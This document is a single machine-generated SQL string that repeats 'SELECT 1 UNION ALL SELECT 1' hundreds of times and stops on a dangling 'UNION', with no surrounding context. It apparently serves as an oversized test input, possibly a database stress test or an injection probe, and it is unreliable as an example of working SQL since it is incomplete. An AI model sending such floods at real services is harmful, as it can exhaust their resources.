SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION 